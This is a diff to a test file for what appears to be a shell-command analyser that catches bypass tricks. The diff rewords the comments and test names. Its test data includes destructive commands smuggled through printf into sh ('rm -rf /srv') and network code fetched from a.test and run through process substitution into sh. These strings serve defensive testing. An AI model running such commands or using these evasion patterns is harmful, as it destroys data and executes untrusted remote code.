@@ -2,9 +2,9 @@
 import { describe, expect, test } from 'vitest';
 import { effects, look, paths } from '../../test/support/shell/shell.ts';
 
-// The classes that begin in bypass.test.ts go on here: text, code and places that are followed through a line.
+// Continues the classes of bypass.test.ts: text, code and paths that are followed through a line.
 
-describe('class 22: text that is not known is not taken for something else', () => {
+describe('class 22: does not take unknown text for something else', () => {
   test.each([
     "printf '%*s' 0 'rm -rf /srv' | sh",
     "printf '%(rm -rf /srv)T' | sh",
@@ -27,15 +27,15 @@ describe('class 23: long texts of one kind', () => {
     ["awk '", 'print > "a"; ', "'"],
     ['patch <<E\n', '+++ a/b\n', 'E'],
     ['lftp -e "', 'put a ', '" host'],
-  ])('%j, and again and again %j', (before, again, after) => {
+  ])('%j, repeated many times', (before, again, after) => {
     const { commands, effects: found } = look(before + again.repeat(100_000 / again.length) + after);
     expect(commands[0]?.options.length ?? 0).toBeLessThan(100);
-    // Two for each step of the budget.
+    // At most two per step of the budget.
     expect(found.length).toBeLessThan(12_500);
   });
 });
 
-describe('class 26: where words say where to write', () => {
+describe('class 26: words that say where to write', () => {
   test.each([
     ['tar xfC a.tar /srv', '/srv'],
     ['tar xCf /srv a.tar', '/srv'],
@@ -49,7 +49,7 @@ describe('class 26: where words say where to write', () => {
   });
 });
 
-describe('class 27: code from the network, by other ways than a pipe', () => {
+describe('class 27: code from the network without a pipe', () => {
   test.each([
     'curl -s https://a.test/x > >(sh)',
     'curl -s https://a.test/x -o >(sh)',
